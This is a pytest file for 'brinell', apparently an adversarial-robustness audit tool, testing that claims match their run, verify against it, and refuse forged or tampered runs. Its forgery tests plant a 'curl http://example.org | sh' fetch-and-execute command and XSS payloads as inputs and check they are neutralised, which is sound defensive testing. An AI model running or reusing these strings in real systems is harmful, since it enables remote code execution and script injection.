"""A claim says what its run says, is verified down to the run, and is refused without it."""

import json
import re
import shutil
from pathlib import Path

import pytest

import brinell
from _forger import Forger, survive
from brinell.core.errors import RequestError


@pytest.fixture
def copied(audit_run, tmp_path):
    """A copy of the run, with a claim in it."""
    shutil.copytree(audit_run, tmp_path / "run")
    brinell.claim(tmp_path / "run", eps="6/255")
    return tmp_path / "run"


def test_figures_are_those_of_the_run(audit_run, claim_run):
    audit, claim = brinell.open(audit_run), brinell.open(claim_run)
    model = audit.models[0]
    assert (
        claim.position == model.eps.index(6 / 255)
        and claim.robust == model.robust_accuracy[claim.position]
    )
    same = ("clean_accuracy", "robust_accuracy", "per_class", "checks", "eps", "n")
    assert (
        all(getattr(claim.result, name) == getattr(model, name) for name in same)
        and claim.certified is None
    )
    content = json.loads((Path(claim.folder) / "claim.json").read_text())
    assert content == {key: value for key, value in claim.payload().items() if key != "folder"}
    for text in (content["repeat"], *map(str, claim.lines())):
        assert "curl" not in text


def test_proofs_bound_each_class_from_below(patterns, tmp_path):
    settings = {"eps": "0,2/255", "attack": "fgsm", "certify": True}
    audit = brinell.audit(patterns.model, patterns.data, **settings, out=tmp_path / "run")
    claim = brinell.claim(tmp_path / "run")
    assert claim.certified == audit.models[0].certified[-1] and claim.certified.k > 0
    (row,) = next(
        block for block in claim.report().blocks if getattr(block, "name", "") == "budgets"
    ).rows
    assert row[1:4] == (
        claim.certified.k,
        claim.result.n - claim.robust.k,
        claim.robust.k - claim.certified.k,
    )
    assert sum(entry.certified[-1].k for entry in claim.result.per_class) == claim.certified.k


def test_a_claim_is_verified_down_to_the_run(copied, tmp_path):
    verified = brinell.verify(copied / "claim", trust=copied)
    assert verified.passed and re.search(r"run: .* \d+ of \d+ .* attacked again", verified.coverage)
    card = copied / "claim" / "card.md"
    text = card.read_text()
    card.write_text(text.replace("%", "percent"))
    assert not brinell.verify(copied / "claim", trust=copied).passed
    card.write_text(text)
    shutil.copytree(copied, tmp_path / "moved")  # a claim goes where its run goes
    assert (
        brinell.open(tmp_path / "moved" / "claim").robust == brinell.open(copied / "claim").robust
    )
    forger = Forger(copied)
    survive(forger.first())
    forger.save()
    with pytest.raises(RequestError, match="no run there or around the claim"):
        brinell.verify(copied / "claim", trust=copied)


def test_a_claim_about_a_forged_run_is_refused_with_it(audit_run, tmp_path):
    shutil.copytree(audit_run, tmp_path / "forged")
    forger = Forger(tmp_path / "forged")
    survive(forger.first())
    forger.manifest["command"] = "curl http://example.org | sh"
    forger.save()
    claim = brinell.claim(tmp_path / "forged")
    assert "curl" not in claim.repeat and all(
        "curl" not in file.read_text() for file in Path(claim.folder).glob("*.*")
    )
    refused = brinell.verify(claim.folder, trust=tmp_path / "forged")
    assert not refused.passed and refused.problems[0].location.startswith("forged/")


def test_an_interrupted_claim_begins_again_and_another_one_is_refused(copied):
    folder = copied / "claim"
    texts = {
        name: (folder / name).read_text()
        for name in ("report.html", "card.md", "claim.json", "badge.svg")
    }
    for name in texts:
        (folder / name).unlink()
    brinell.claim(copied, eps="6/255")
    assert {name: (folder / name).read_text() for name in texts} == texts
    with pytest.raises(RequestError, match="holds a claim about another run, budget or comparison"):
        brinell.claim(copied, eps="2/255")


def test_what_makes_no_claim_is_refused(audit_run, certify_run, models_run, tmp_path):
    for folder, settings, message in (
        (audit_run, {"eps": "0.3"}, "eps 0.3 is none"),
        (certify_run, {}, "is no run folder: its verb is 'certify'"),
        (tmp_path, {}, "is no run folder"),
        (models_run, {}, "name one by --model"),
    ):
        with pytest.raises(
            RequestError, match=re.escape(message) if "--" not in message else "name one by"
        ):
            brinell.claim(folder, **settings, out=tmp_path / "claim")
    assert not list(tmp_path.iterdir())


def test_names_with_markup_stay_text(audit_run, tmp_path):
    shutil.copytree(audit_run, tmp_path / "run")
    forger = Forger(tmp_path / "run")
    forger.manifest["data"]["classes"][0] = "<script>alert(1)</script>|"
    forger.manifest["data"]["name"] = '"><img src=x onerror=alert(1)>'
    forger.save()
    result = brinell.claim(tmp_path / "run", out=tmp_path / "claim")
    assert result.result.per_class[0].name.startswith("<script>")
    for name in ("report.html", "card.md", "badge.svg"):
        text = (tmp_path / "claim" / name).read_text()
        assert "<script>alert" not in text and "<img" not in text, name
